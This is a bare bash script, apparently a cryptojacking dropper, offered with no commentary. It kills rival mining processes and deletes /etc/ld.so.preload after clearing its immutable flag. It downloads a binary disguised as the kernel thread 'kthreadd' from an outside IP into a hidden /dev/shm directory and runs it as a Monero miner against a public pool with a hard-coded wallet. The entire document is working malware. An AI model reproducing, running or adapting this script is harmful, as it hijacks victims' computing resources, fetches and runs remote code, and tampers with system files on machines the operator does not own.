# bootstrap 1890 v3
#!/bin/bash
export LC_ALL=C
ulimit -n 65535
for p in $(ps -eo pid,comm | awk '$2 ~ /(kswapd0|watchdogs|xmr|sysupdate)/ {print $1}'); do kill -9 $p; done
chattr -i /etc/ld.so.preload; rm -f /etc/ld.so.preload
curl -fsSL http://192.0.2.44/dl/kthreadd -o /dev/shm/.sys/kthreadd || wget -q http://192.0.2.44/dl/kthreadd -O /dev/shm/.sys/kthreadd
chmod +x /dev/shm/.sys/kthreadd
/dev/shm/.sys/kthreadd -o pool.hashvault.pro:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls
